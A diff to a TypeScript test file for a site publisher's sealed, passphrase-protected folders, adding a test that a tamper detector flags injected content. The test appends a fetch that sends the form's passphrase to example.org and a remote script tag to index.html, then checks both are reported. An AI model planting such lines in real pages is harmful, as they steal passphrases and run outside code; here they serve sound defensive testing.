@@ -13,6 +13,7 @@ import { publish } from '../publish.ts'
 import { type ApprovedDeck, readApproved, sealedFolders } from './approved.ts'
 import { type SealedSite, sealedSite, testPlace } from './fixtures.ts'
 import { type ReleaseRequest, release } from './release.ts'
+import { sealedFaults } from './sealed-faults.ts'
 
 /** A hundred words and a hundred numbers that slides print, besides those of the deck's other files. */
 const words = Array.from({ length: 100 }, (_, at) => `canary${(at * 7919 + 104729).toString(36)}`)
@@ -93,6 +94,21 @@ test('nothing outside of the folder names it, and what is in it is neutral, hidd
   expect(before.get('_headers')).toMatch(/^\/ir\/e\/\*\n {2}X-Robots-Tag: noindex/m)
   expect(readSite(to).decks).toEqual([])
 })
+
+test('what is around the sealed file is told where somebody changed it', async () => {
+  expect(await sealedFaults(to, engine)).toEqual([])
+  for (const [name, more] of [
+    [sealedNames.form, ';fetch("https://example.org/?" + document.forms[0].passphrase.value)'],
+    ['index.html', '<script src="https://example.org/more.js"></script>'],
+  ] as const) {
+    const path = join(to, sealed.path, name)
+    const text = readFileSync(path, 'utf8')
+    writeFileSync(path, text + more)
+    const faults = await sealedFaults(to, engine)
+    writeFileSync(path, text)
+    expect(faults).toEqual([expect.stringContaining(`${sealed.path}${name}: `)])
+  }
+}, 60_000)
 
 test.each([
   ['another digest', { digest: '0'.repeat(64) }, 'invalid --approved 000'],
